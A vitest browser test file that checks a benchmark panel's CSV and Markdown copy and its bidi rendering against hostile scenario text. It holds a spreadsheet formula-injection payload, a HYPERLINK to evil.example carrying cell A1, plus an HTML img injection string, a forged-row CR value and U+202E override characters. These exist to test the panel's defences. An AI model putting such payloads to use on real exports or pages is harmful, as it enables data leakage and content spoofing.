// Scenario text that attacks what the panel shows and copies (issue 14 items 11, 13, 16), in
// Chromium: a labelled repeat named by a spreadsheet formula, a variant label with a bare CR and raw
// HTML, and U+202E (RIGHT-TO-LEFT OVERRIDE) in a variant label and in the metric's unit.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserTestsEnabled, PanelHarness, type PanelPage } from './harness';
import { exampleText, panelRun } from './fixtures';
import type { PanelRun } from '../../shared/protocol';

const enabled = browserTestsEnabled();
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const RLO = '\u202E';

/** The netperf example, shorter, its label a formula, two variant labels and its unit hostile. */
function hostileRun(): PanelRun {
  let t = exampleText('examples/seed/netperf-tcp-rr.mmio.yaml');
  t = t.slice(0, t.indexOf('\nexpect:'));
  const yamlLabel = JSON.stringify(HYPERLINK);
  t = t.replace('metric: { label: transaction, unit: tps }', `metric: { label: ${yamlLabel}, unit: "t\\u202Eps" }`);
  t = t.replace('label: transaction', `label: ${yamlLabel}`).replace('repeat: 2000', 'repeat: 20');
  t = t.replace('"ept, after"', '"a\\r| forged | row |\\r<img src=x>"').replace('"ept=0, before"', '"ept\\u202E=0, before"');
  return panelRun(t, 'hostile.mmio.yaml', { traceCapacity: 0 }, true);
}

describe.runIf(enabled)('hostile scenario text in the panel (Chromium)', { timeout: 90_000 }, () => {
  let harness: PanelHarness;
  let run: PanelRun;
  beforeAll(async () => {
    harness = await PanelHarness.start();
    run = hostileRun();
  }, 60_000);
  afterAll(async () => {
    await harness?.close();
  });

  async function open(): Promise<PanelPage> {
    const p = await harness.open('dark');
    await p.post({ type: 'run', run });
    await p.page.waitForSelector('[data-testid="scenario-name"]');
    return p;
  }

  it('Copy as CSV: a formula label is a quoted text cell, negative numbers stay numbers (item 11)', async () => {
    expect(Object.keys(run.result.labels)).toEqual([HYPERLINK]);
    const p = await open();
    await p.page.click('[data-table="labels"] [data-copy="csv"]');
    const csv = await p.waitForMessage('copy');
    const row = csv.text.split('\r\n')[1]!;
    expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)).toBe(true);
    // The compare table: the signed changes with a unit in them are neutralised too (the unit is
    // scenario text), every cell of a line starts with no formula character unquoted.
    await p.post({ type: 'showView', view: 'compare' });
    await p.waitForView('compare');
    await p.page.click('[data-table="compare"] [data-copy="csv"]');
    const cmp = (await p.waitForMessage('copy')).text;
    const cells = cmp.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?[\d,.]+( ?%)?$/.test(c))).toEqual([]);
    expect(cmp).toContain(`"'+`); // a gain in the change column, quoted and prefixed
    await p.close();
  });

  it('Copy as Markdown: a bare CR and raw HTML in a label stay in their cell (item 13)', async () => {
    const p = await open();
    await p.post({ type: 'showView', view: 'compare' });
    await p.waitForView('compare');
    await p.page.click('[data-table="compare"] [data-copy="markdown"]');
    const md = (await p.waitForMessage('copy')).text;
    const lines = md.split(/\r\n|\r|\n/).filter((l) => l !== '');
    expect(lines).toHaveLength(2 + run.compare!.variants.length);
    expect(md).not.toContain('<img');
    expect(lines[3]).toMatch(/^\| a \\\| forged \\\| row \\\| &lt;img src=x&gt; \| v3\.1 \|/);
    await p.close();
  });

  it('U+202E in a variant label and in the unit reorders nothing after it (item 16)', async () => {
    const p = await open();
    await p.post({ type: 'showView', view: 'compare' });
    await p.waitForView('compare');
    const c = run.compare!;
    expect(c.variants[2]!.label).toContain(RLO);
    expect(c.variants[2]!.change_pct).toBeLessThan(0);
    const rows = await p.page.$$eval('[data-testid="compare-chart"] .bar-row:not(.bar-axis)', (rs) =>
      rs.map((r) => {
        const name = r.querySelector('.bar-name')!;
        const text = r.querySelector('.bar-text')!;
        const node = text.firstChild as Text;
        // The x of each character of the change text as laid out: in reading order, they increase.
        const xs = Array.from(node.data, (_, i) => {
          const range = document.createRange();
          range.setStart(node, i);
          range.setEnd(node, i + 1);
          return range.getClientRects()[0]?.x ?? NaN;
        });
        return { name: name.textContent ?? '', text: node.data, xs, isolate: getComputedStyle(name).unicodeBidi };
      }),
    );
    expect(rows).toHaveLength(c.variants.length);
    for (const r of rows) {
      // One line at 1280 px; each character right of the one before it.
      expect(r.xs.every((x, i) => i === 0 || x > r.xs[i - 1]!), `${r.text}: ${r.xs.join(' ')}`).toBe(true);
      expect(r.text).not.toContain('\u202E');
      expect(r.text).toContain('⟨U+202E⟩');
      expect(r.isolate).toBe('isolate');
    }
    const changed = rows[2]!;
    expect(changed.name).toBe('ept⟨U+202E⟩=0, before');
    expect(changed.text).toMatch(/\(-0\.\d\d %, worse\)$/);
    expect(await p.page.textContent('[data-testid="compare-chart"] h3')).not.toContain(RLO);
    await p.screenshot('hostile-text-compare');
    expect(await p.cspViolations()).toEqual([]);
    expect(p.errors).toEqual([]);
    await p.close();
  });
});
